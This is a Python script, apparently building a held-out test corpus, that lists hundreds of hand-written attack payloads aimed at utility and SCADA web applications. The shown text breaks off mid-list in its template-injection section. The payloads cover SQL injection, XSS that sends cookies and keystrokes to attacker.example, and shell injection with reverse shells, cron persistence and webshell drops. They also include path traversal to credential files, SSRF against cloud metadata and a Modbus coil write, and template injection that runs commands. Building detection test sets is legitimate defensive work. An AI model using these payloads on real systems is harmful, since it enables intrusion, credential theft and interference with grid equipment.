"""Attack corpus for the energy/utilities theme (held out).

Each value is a working payload for a vulnerable utility application that puts the value
where its class says: meter ids / account numbers / tariff codes concatenated into SQL,
RTU host names and export file names into a shell line, bill/photo/tariff file names into
a file path, inverter-monitoring / DR-webhook / import URLs fetched server-side, notice
and bill-message templates rendered server-side, outage notes and alarm texts written into
HTML unescaped, ops-log lines / HTTP headers / contact-form mail headers, crew-directory
LDAP filters and meter-configuration XPath queries.

Class = "<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain wrapping.
Every payload was written for this corpus from an understanding of the technique
(hand-written literals, plus small templates over hand-written pools). No public payload
list, dataset or documentation example was used. Attacker infrastructure is limited to
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; every secret is
a fake placeholder.

Output: attacks.jsonl next to this file. Deterministic (fixed seed, no set ordering).
"""

import json
import random
from pathlib import Path

SEED = 4502
PREFIX = "ha45"

# --------------------------------------------------------------------------------------
# Hand-written literals: (class, value)
# --------------------------------------------------------------------------------------

SQLI = [
    ("meter-id-union", "MTR-88121' UNION SELECT username, password_hash, NULL FROM portal_users-- "),
    ("meter-id-tautology", "MTR-88121' OR '1'='1"),
    ("meter-id-boolean-blind", "MTR-88121' AND SUBSTRING((SELECT password_hash FROM portal_users WHERE role='admin' LIMIT 1),1,1)='$'-- "),
    ("acct-no-tautology", "3300447102 OR 1=1"),
    ("acct-no-union", "0 UNION SELECT card_number, exp_month, exp_year, billing_zip FROM payment_methods"),
    ("reading-stacked-pg-sleep", "04512; SELECT pg_sleep(10)--"),
    ("reading-time-blind", "04512 AND SLEEP(8)"),
    ("tariff-code-error-extractvalue", "TOU-D-PRIME' AND extractvalue(1, concat(0x7e, (SELECT version())))-- -"),
    ("tariff-code-error-convert", "E-TOU-C' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("outage-search-like-union", "Birch%' UNION SELECT NULL, account_no, ssn_last4, phone FROM customers-- "),
    ("wo-sort-orderby-case-blind", "(CASE WHEN (SELECT substr(api_key,1,1) FROM crew_tokens LIMIT 1)='a' THEN created_at ELSE priority END)"),
    ("wo-id-stacked-update", "WO-884127'; UPDATE work_orders SET status='CLOSED', closed_by='system' WHERE crew_id=12;--"),
    ("switch-id-stacked-drop", "SW-114'; DROP TABLE switching_steps;--"),
    ("feeder-union-oracle", "FDR-1204' UNION SELECT username, NULL FROM all_users--"),
    ("substation-stacked-waitfor", "SUB-ELM'; WAITFOR DELAY '0:0:9'--"),
    ("substation-stacked-xp-cmdshell", "SUB-ELM'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("plan-code-union-sqlite-master", "EV2-A' UNION SELECT name, sql FROM sqlite_master--"),
    ("acct-no-stacked-copy-program", "1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x | sh'--"),
    ("date-range-paren-tautology", "2024-06-30') OR ('x'='x"),
    ("crew-note-concat-subquery", "Crew note: ok'||(SELECT password_hash FROM crew_users WHERE id=1)||'"),
    ("meter-id-oob-utl-inaddr", "MTR-1' AND 1=(SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.oob.attacker.example') FROM dual)--"),
    ("meter-id-oob-xp-dirtree", "MTR-1'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\share';--"),
    ("plain-union-load-file", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2,3"),
    ("tariff-code-union-outfile", "TOU-D' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/m.php'-- -"),
    ("meter-no-ascii-blind", "88121 AND ASCII(SUBSTRING((SELECT password_hash FROM portal_users LIMIT 1),1,1))>77"),
    ("meter-id-union+case", "MTR-88121' uNiOn SeLeCt NULL,passwd,NULL FrOm admin_users-- -"),
    ("meter-id-union+comment", "MTR-88121'/**/UNION/**/SELECT/**/login,pw_hash/**/FROM/**/operators--"),
    ("meter-id-union+urlenc", "MTR-88121%27%20UNION%20SELECT%20login%2Cpw_hash%20FROM%20operators--%20"),
    ("meter-id-tautology+urlenc2", "MTR-88121%2527%2520OR%25201%253D1--%2520"),
    ("reading-union+versioned-comment", "04512 /*!50000UNION*/ /*!50000SELECT*/ user(),database()"),
    ("plain-having-error", "' HAVING 1=1--"),
    ("login-user-comment-bypass", "dispatcher'--"),
    ("plain-empty-string-tautology", "' OR ''='"),
    ("usage-filter-tautology", "kwh > 1000 OR 1=1"),
    ("customer-name-second-order-insert", "Dana', 'x'); INSERT INTO portal_admins(login, pw) VALUES ('mallory','placeholder-pw');--"),
    ("feeder-error-cast", "FDR-2203' AND 1=CAST((SELECT current_user) AS int)--"),
    ("plain-union-dollar-quote", "0 UNION SELECT $$x$$, usename, passwd FROM pg_shadow--"),
    ("acct-no-union+hex", "0 UNION SELECT 1, table_name FROM information_schema.tables WHERE table_schema=0x62696c6c696e67"),
    ("tariff-code-union-char", "E-1' UNION SELECT CHAR(97,100,109,105,110), pw_hash FROM portal_users--"),
    ("switch-id-time-dbms-pipe", "SW-114' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',7)--"),
    ("switch-id-heavy-query-randomblob", "TIE-7' AND 1=randomblob(500000000)--"),
    ("meter-id-like-blind", "MTR-%' AND (SELECT password_hash FROM portal_users WHERE login='admin') LIKE 'a%'--"),
    ("switch-list-in-clause-tautology", "SW-114','SW-115') OR 1=1--"),
    ("feeder-no-tautology+comment", "1204/**/or/**/1=1"),
    ("meter-id-union-newline-whitespace", "MTR-88121'\nUNION\nSELECT\nlogin,\npw_hash\nFROM\noperators--"),
    ("page-size-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("plain-stacked-privesc", "1; EXEC sp_addsrvrolemember 'portal_app', 'sysadmin';--"),
    ("plain-orderby-probe", "TOU-D-PRIME' ORDER BY 7-- -"),
    ("reading-insert-extra-rows", "0), ('MTR-90817', 0), ('MTR-55102', 0)--"),
    ("billing-note-update-set", "paid by phone', balance=0, status='CURRENT"),
    ("meter-id-conditional-error", "MTR-1' AND IF((SELECT COUNT(*) FROM portal_users)>5, (SELECT 1 UNION SELECT 2), 1)-- -"),
    ("acct-no-union-query-to-xml", "0 UNION SELECT NULL, query_to_xml('SELECT * FROM customers',true,true,'')::text--"),
    ("meter-id-union-json-arrayagg", "MTR-1' UNION SELECT JSON_ARRAYAGG(email), 1 FROM customers-- -"),
    ("street-double-quote-tautology", 'Harbor Blvd" OR "1"="1'),
    ("sort-column-backtick-sleep", "reading_date`, (SELECT SLEEP(6))-- -"),
    ("outage-note-stacked-insert", "Lights flickering since 6pm'); INSERT INTO outage_credits(acct, amount) VALUES ('3300-4471-02', 500);--"),
    ("meter-id-union-group-concat", "MTR-0' UNION SELECT GROUP_CONCAT(login,0x3a,pw_hash SEPARATOR 0x0a), 2 FROM operators-- -"),
    ("acct-no-exists-blind", "3300447102 AND EXISTS(SELECT 1 FROM portal_users WHERE login='admin' AND pw_hash LIKE '$2b$%')"),
    ("plain-stacked-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL-- -"),
    ("reading-benchmark-blind", "04512 AND BENCHMARK(40000000,SHA1('x'))"),
    ("wo-search-error-subquery", "WO-88' AND 1=(SELECT TOP 1 password_hash FROM portal_users)--"),
    ("docket-search-union-tab-whitespace", "24-07-012'\tUNION\tSELECT\tfiler_email,\tNULL\tFROM\tfilers--"),
    ("pole-id-tautology-hash-comment", "P-20431' OR 1=1#"),
    ("customer-email-tautology", "kim.ohara@mail.example' OR 'a'='a"),
]

XSS = [
    ("outage-note-script-cookie", "Power out since 6pm <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("meter-id-img-onerror", "MTR-88121<img src=x onerror=alert(document.domain)>"),
    ("pole-attr-breakout-svg", "Pole #P-20431 leaning\"><svg onload=alert(1)>"),
    ("monitor-link-javascript-uri", "javascript:alert(document.cookie)"),
    ("street-attr-single-quote-handler", "Birch Ln' onmouseover='fetch(`//attacker.example/`+localStorage.token)"),
    ("meter-js-string-breakout", "MTR-88121';alert(document.cookie);//"),
    ("notice-js-template-literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("tariff-script-close-exfil", "TOU-D</script><script>new Image().src='//attacker.example/l?c='+document.cookie</script>"),
    ("wo-note-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("outage-details-ontoggle", "<details open ontoggle=alert(1)>see photos</details>"),
    ("alarm-text-body-onload", "<body onload=alert('SCADA')>"),
    ("comment-textarea-breakout", "</textarea><script>alert(document.cookie)</script>"),
    ("page-title-breakout", "</title><img src=1 onerror=alert(1)>"),
    ("map-link-javascript+entity", "<a href=\"jav&#x61;script:alert(1)\">view outage map</a>"),
    ("photo-caption-onerror+entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("plain-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("outage-note-svg+urlenc2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("plain-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("alarm-text-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("plain-input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("photo-video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("outage-note-phishing-form", "<form action=https://attacker.example/login><input name=password placeholder='Re-enter portal password'><button>Verify</button></form>"),
    ("notice-meta-refresh", "<meta http-equiv=refresh content=\"0;url=https://attacker.example/pay\">"),
    ("notice-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("markdown-link-javascript", "[Outage map](javascript:alert(document.cookie))"),
    ("json-in-script-breakout", "\"}</script><script>alert(1)</script>"),
    ("faq-angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("svg-script+entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("doc-link-data-uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("attachment-object-javascript", "<object data=\"javascript:alert(1)\">"),
    ("plain-img-tagged-template", "<img src=x onerror=alert`1`>"),
    ("dr-notice-svg-cookie-redirect", "<svg/onload=location='//attacker.example/?'+document.cookie>"),
    ("outage-note-atob-eval+base64", "<img src=x onerror=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS9jPycrZG9jdW1lbnQuY29va2llKQ=='))\">"),
    ("meter-js-string+unicode", "MTR-1';\\u0061lert(1);//"),
    ("plain-select-onfocus", "<select onfocus=alert(1) autofocus>"),
    ("outage-banner-marquee-onstart", "<marquee onstart=alert(1)>Outage</marquee>"),
    ("alarm-text-csrf-open-breaker", "T1 HOT SPOT 95°C <img src=/ onerror=\"fetch('/api/breakers/CB-12/open',{method:'POST',credentials:'include'})\">"),
    ("sld-upload-svg-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("sld-link-tab+entity", "<a href=\"java&#9;script:alert(1)\">single-line diagram</a>"),
    ("sld-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open SLD</text></a></svg>"),
    ("usage-api-jsonp-callback", "alert(document.domain)//"),
    ("meter-js-string-minus", "'-alert(1)-'"),
    ("meter-js-string-backslash-escape", "\\';alert(1);//"),
    ("plain-script-close-svg", "</script><svg onload=alert(1)>"),
    ("alarm-html-comment-breakout", "--><img src=x onerror=alert(1)>"),
    ("notice-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("plain-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("json-render-img+unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("outage-note-overlay-iframe", "<iframe src=\"https://attacker.example/fake-login\" style=\"position:fixed;inset:0;border:0;width:100%;height:100%\"></iframe>"),
    ("customer-name-remote-script", "Dana<script src=//attacker.example/k.js></script>"),
    ("alarm-text-onanimationstart", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>"),
    ("photo-filename-attr-breakout", "meter_photo\"><img src=x onerror=alert(1)>.jpg"),
    ("monitor-url-attr-onclick", "https://monitor.sunbright.example/site/88121\" onclick=\"alert(document.cookie)"),
    ("faq-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("dr-notice-link-javascript+case", "<a href=\"JaVaScRiPt:alert(1)\">opt out</a>"),
    ("alarm-text-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("outage-note-storage-exfil", "<svg onload=\"navigator.sendBeacon('//attacker.example/s',JSON.stringify(localStorage))\">"),
    ("tariff-link-colon+entity", "<a href=javascript&colon;alert(1)>tariff PDF</a>"),
    ("plain-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("customer-name-svg-newline-whitespace", "Dana\n<svg\nonload=alert(1)>"),
    ("search-reflected-img+urlenc", "Birch%20Ln%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("tree-report-dynamic-import", "Tree on lines behind 88 Cedar Ct <img src=x onerror=import('//attacker.example/m.js')>"),
    ("plain-iframe-javascript-src", "<iframe src=javascript:alert(document.domain)>"),
]

CMDI = [
    ("rtu-ping-semicolon", "10.20.4.51; cat /etc/passwd"),
    ("rtu-ping-and", "10.20.4.51 && id"),
    ("rtu-ping-pipe-netcat", "10.20.4.51 | nc 203.0.113.5 4444 -e /bin/sh"),
    ("rtu-ping-backtick", "10.20.4.51`whoami`"),
    ("rtu-ping-subshell-download", "10.20.4.51$(curl -s http://203.0.113.8/s.sh|sh)"),
    ("export-filename-semicolon", "route17_0611.txt; rm -rf /var/lib/ami/export"),
    ("sld-filename-quote-breakout", "SLD_rev2.pdf'; wget http://attacker.example/b -O /tmp/b; chmod +x /tmp/b; /tmp/b; echo '"),
    ("meter-id-newline-revshell", "MTR-88121\nbash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"),
    ("report-date-or-time", "2024-06-01 || ping -c 10 127.0.0.1"),
    ("rtu-name-windows-timeout", "RTU-17 & timeout /t 9 & "),
    ("substation-pipe-powershell", "SUB-ELM | powershell -nop -c \"iwr http://203.0.113.9/p.ps1|iex\""),
    ("feeder-csv-ifs", "feeder-1204.csv;${IFS}cat${IFS}/etc/shadow"),
    ("rtu-ping-redirect-nospace", "10.20.4.51;cat</etc/passwd"),
    ("plain-subshell-sleep", "$(sleep 10)"),
    ("plain-semicolon-sleep-comment", "; sleep 10 #"),
    ("plain-backtick-dns-oob", "`nslookup $(whoami).oob.attacker.example`"),
    ("photo-name-dq-breakout", "photo.jpg\";curl http://203.0.113.8/?h=$(hostname);\""),
    ("ssh-host-proxycommand-arg", "-oProxyCommand='sh -c \"id>/tmp/pwn\"' rtu17"),
    ("archive-tar-checkpoint-arg", "--checkpoint=1 --checkpoint-action=exec='curl -s http://203.0.113.8/t|sh'"),
    ("firmware-url-curl-output-arg", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("rtu-ping-glob-obfuscation", "10.20.4.51;/???/c?t /???/p?ss??"),
    ("rtu-ping-quote-split-obfuscation", "10.20.4.51;w'h'o'a'm'i"),
    ("rtu-ping-backslash-split-obfuscation", "10.20.4.51;c\\at /et\\c/pas\\swd"),
    ("rtu-ping-var-concat", "10.20.4.51;a=ca;b=t;$a$b /etc/hosts"),
    ("rtu-ping-decode-pipe+base64", "10.20.4.51;echo aWQ7dW5hbWUgLWE=|base64 -d|sh"),
    ("rtu-ping-semicolon+urlenc", "10.20.4.51%3Bid"),
    ("rtu-ping-newline+urlenc", "10.20.4.51%0Aid"),
    ("rtu-ping-semicolon+urlenc2", "10.20.4.51%253Bcat%2520%252Fetc%252Fpasswd"),
    ("rtu-config-windows-type", "RTU-17.cfg & type C:\\Windows\\win.ini"),
    ("report-windows-certutil", "report.pdf | certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe"),
    ("rtu-name-windows-caret-obfuscation", "RTU-17 & w^h^o^a^m^i"),
    ("meter-powershell-quote-breakout", "MTR-88121'; Get-Content C:\\inetpub\\wwwroot\\web.config; '"),
    ("powershell-dq-subexpression", "$(Invoke-WebRequest http://203.0.113.9/e -Method POST -Body (Get-ChildItem env: | Out-String))"),
    ("rtu-ping-python-revshell", "10.20.4.51; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("export-filename-or-exfil", "route17.txt || curl -d @/etc/passwd http://attacker.example/up"),
    ("hmi-host-cron-persistence", "hmi-04; (crontab -l; echo '* * * * * curl -s http://203.0.113.8/c|sh') | crontab -"),
    ("rtu-ping-authorized-keys", "10.20.4.51; echo 'ssh-ed25519 AAAAFAKEKEYFAKEKEYFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
    ("rtu-ping-process-substitution", "10.20.4.51;bash -c 'bash <(curl -s http://203.0.113.8/x)'"),
    ("rtu-ping-brace-expansion", "10.20.4.51;{cat,/etc/passwd}"),
    ("modbus-host-reboot", "10.20.4.51 -r 100; /sbin/reboot"),
    ("plain-windows-ping-time", "& ping -n 11 127.0.0.1 &"),
    ("plain-subshell-context-breakout", "a);id;("),
    ("rtu-ping-printf+octal", "10.20.4.51;$(printf '\\151\\144')"),
    ("hostname-backtick-decode+base64", "`echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh`"),
    ("meter-photo-convert-semicolon", "meter.jpg;ls -la /home"),
    ("plain-pipe-absolute", "|/usr/bin/id"),
    ("export-name-newline+urlenc", "%0a/usr/bin/id%0a"),
    ("rtu-ping-var-substring", "10.20.4.51;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("rtu-ping-bind-shell", "10.20.4.51; nc -lvp 4444 -e /bin/bash"),
    ("rtu-ping-awk-system", "10.20.4.51; awk 'BEGIN{system(\"id\")}'"),
    ("report-name-mail-exfil", "june_report.pdf; mail -s pw ops@attacker.example < /etc/passwd"),
    ("sync-rsync-e-arg", "-e 'sh -c \"id>/tmp/o\"' rtu17:/cfg"),
    ("plain-bash-read-file", "$(</etc/passwd)"),
    ("hostname-dig-oob", "rtu17.local; dig +short $(cat /etc/hostname).oob.attacker.example"),
    ("export-name-tee-webshell", "route17.txt; echo '<?php system($_GET[0]);?>' | tee /var/www/html/m.php"),
    ("rtu-ping-openssl-revshell", "10.20.4.51; openssl s_client -quiet -connect 203.0.113.5:443 | /bin/sh | openssl s_client -quiet -connect 203.0.113.5:8443"),
    ("rtu-name-windows-net-user", "RTU-17 | net user svc_scada FakePass-2024 /add"),
    ("report-windows-ps-encoded+base64", "report.pdf & powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAHAALgBwAHMAMQAgAHwAIABpAGUAeAA="),
    ("rtu-ping-and-shutdown", "10.20.4.51 && shutdown -h now"),
    ("rtu-ping-busybox-telnetd", "10.20.4.51; /bin/busybox telnetd -p 2323 -l /bin/sh"),
    ("plain-backtick-id", "`id`"),
    ("rtu-name-single-quote-breakout", "RTU-17'; id; echo '"),
    ("crew-note-multiline-subshell", "Crew note: replaced 25K fuse on P-4471\n$(curl -s http://203.0.113.8/n | sh)\nrestored 14:32"),
    ("tariff-url-wget-post-file-arg", "--post-file=/etc/shadow http://attacker.example/collect"),
    ("photos-zip-testcmd-arg", "photos.zip -T -TT 'sh -c id #'"),
    ("export-pattern-find-exec", "*.csv -exec sh -c 'curl -s http://203.0.113.8/f|sh' \\;"),
]

TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("bill-pdf-prefixed-dotdot", "bill_2024-06.pdf/../../../../../etc/shadow"),
    ("plain-windows-backslash", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute-unix", "/etc/passwd"),
    ("attachment-absolute-windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("bill-pdf-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("bill-pdf-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("photo-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("photo-dotdot+fullwidth", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd"),
    ("report-strip-once-bypass", "....//....//....//etc/passwd"),
    ("report-strip-once-nested", "..././..././..././etc/passwd"),
    ("tariff-dir-proc-environ", "tariffs/../../../../proc/self/environ"),
    ("plain-proc-cmdline", "/proc/self/cmdline"),
    ("log-viewer-access-log", "../../../../var/log/nginx/access.log"),
    ("config-database-yml", "../../app/config/database.yml"),
    ("plain-dotenv", "../../../.env"),
    ("template-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("bill-pdf-nullbyte+urlenc", "../../../../etc/passwd%00.pdf"),
    ("firmware-zip-slip-entry", "firmware/../../../../opt/scada/bin/rtu_agent"),
    ("tariff-pdf-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("photo-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("webroot-absolute-dotdot", "/var/www/portal/../../../etc/hosts"),
    ("meter-photo-deep-dotdot", "meter_photos/MTR-88121/../../../../../../home/portal/.bash_history"),
    ("java-webinf", "../WEB-INF/web.xml"),
    ("tomcat-path-param", "..;/WEB-INF/web.xml"),
    ("static-encoded-slash+urlenc", "/static/..%2f..%2f..%2fetc/passwd"),
    ("iis-percent-u+unicode", "%u002e%u002e%u2215%u002e%u002e%u2215windows%u2215win.ini"),
    ("report-partial-dot+urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("report-slash+urlenc2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("scada-credentials-dotdot", "../../../../opt/scada/config/rtu_credentials.xml"),
    ("windows-hosts-dotdot", "../../../../../../Windows/System32/drivers/etc/hosts"),
    ("project-windows-absolute", "C:/ProgramData/SCADA/Projects/SUB-ELM/points.db"),
    ("plain-proc-fd", "/proc/self/fd/3"),
    ("tls-key-dotdot", "../../../../etc/ssl/private/portal.key"),
    ("invoice-template-dotdot", "invoice_templates/../../../../etc/passwd"),
    ("windows-extended-path", "\\\\?\\C:\\Windows\\win.ini"),
    ("tariff-include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("plain-proc-self-root", "/proc/self/root/etc/passwd"),
    ("report-dots+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    ("download-query-dotdot", "/api/bills/download?name=../../../../etc/passwd"),
    ("aws-credentials-dotdot", "../../../../root/.aws/credentials"),
    ("export-dir-crontab", "/var/lib/ami/export/../../../../etc/crontab"),
    ("git-config-dotdot", "../../.git/config"),
    ("deep-dotdot-group", "../../../../../../../../../../../../etc/group"),
    ("attachment-windows-sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("sld-include-zip-wrapper", "zip:///var/www/uploads/sld_rev2.zip#shell.php"),
    ("k8s-token-dotdot", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
]

SSRF = [
    ("monitor-url-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("monitor-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("import-url-consul-kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import-url-etcd-keys", "http://localhost:2379/v2/keys/?recursive=true"),
    ("monitor-url-rtu-webui", "http://10.20.4.10/cgi-bin/rtu_config?action=download"),
    ("monitor-url-imds+decimal", "http://2852039166/latest/meta-data/"),
    ("monitor-url-imds+hex", "http://0xA9FEA9FE/latest/meta-data/"),
    ("monitor-url-imds+octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-loopback+short", "http://127.1:8080/actuator/env"),
    ("plain-zero-host", "http://0/server-status"),
    ("monitor-url-imds+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("webhook-redis-ipv6-loopback", "http://[::1]:6379/"),
    ("import-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20http%3A%2F%2F203.0.113.8%2Fr%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("plain-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("import-url-file-windows", "file:///C:/Windows/win.ini"),
    ("monitor-url-userinfo-confusion", "https://monitor.sunbright.example@169.254.169.254/latest/meta-data/"),
    ("monitor-url-backslash-confusion", "http://127.0.0.1:8080\\@monitor.sunbright.example/"),
    ("monitor-url-dns-rebind", "http://rebind-7f000001.attacker.example:8080/admin"),
    ("webhook-open-redirect-chain", "http://attacker.example/redirect?to=http://127.0.0.1:9200/_cat/indices"),
    ("import-url-elasticsearch", "http://localhost:9200/_search?q=*&size=1000"),
    ("historian-url-influx", "http://historian.internal:8086/query?q=SHOW+DATABASES"),
    ("webhook-tomcat-manager", "http://10.0.0.5:8080/manager/html"),
    ("webhook-loopback+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("webhook-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("webhook-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-rabbitmq-users", "http://localhost:15672/api/users"),
    ("sld-import-tftp", "tftp://203.0.113.7/rtu.cfg"),
    ("import-url-jar", "jar:http://attacker.example/x.zip!/tariff.xml"),
    ("webhook-all-zeros", "http://0.0.0.0:8000/admin"),
    ("monitor-url-enclosed-alnum+unicode", "http://①②⑦.⓪.⓪.①:8080/"),
    ("webhook-ipv6-long-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("webhook-loopback+octal", "http://017700000001/"),
    ("webhook-loopback+hex-dotted", "http://0x7f.0x0.0x0.0x1/"),
    ("webhook-gcp-recursive", "http://169.254.169.254/computeMetadata/v1/?recursive=true"),
    ("monitor-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("monitor-url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("openadr-vtn-url-internal-admin", "https://127.0.0.1:8443/admin/ven/registrations"),
    ("webhook-localhost-admin-api", "http://localhost:8080/api/admin/users?role=admin"),
    ("import-url-gopher-modbus-write-coil", "gopher://10.20.4.51:502/_%00%01%00%00%00%06%01%05%00%10%FF%00"),
    ("webhook-activemq-console", "http://127.0.0.1:8161/admin/"),
    ("import-url-netdoc", "netdoc:///etc/passwd"),
    ("plain-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("tariff-import-unc-ntlm", "\\\\198.51.100.23\\share\\tariff.pdf"),
    ("plain-localhost-server-status", "http://localhost/server-status"),
    ("import-url-ldap-dump", "ldap://127.0.0.1:389/dc=util,dc=example??sub?(objectClass=*)"),
]

CODE = [
    ("dr-notice-jinja-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("outage-sms-jinja-builtins", "Crew ETA {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("bill-message-jinja-config", "Your DR event is {{ date }} — {{ config.items() }}"),
    ("plain-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("notice-jinja-loop-catch-warnings", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("notice-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("notice-twig1-filter-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("report-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("report-velocity-runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("plain-erb-backtick", "<%= `id` %>"),
    ("bill-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("view-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("dr-rule-spel-template", "#{T(java.lang.Runtime).getRuntime().exec('curl -s http://203.0.113.8/s')}"),
    ("form-field-java-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("action-param-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("notice-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("notice-pug-interpolation", "#{function(){return global.process.mainModule.require('child_process').execSync('id')}()}"),
    ("notice-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("plain-smarty-system", "{system('id')}"),
    ("notice-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("notice-mako-import", "${__import__('os').popen('id').read()}"),
    ("notice-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
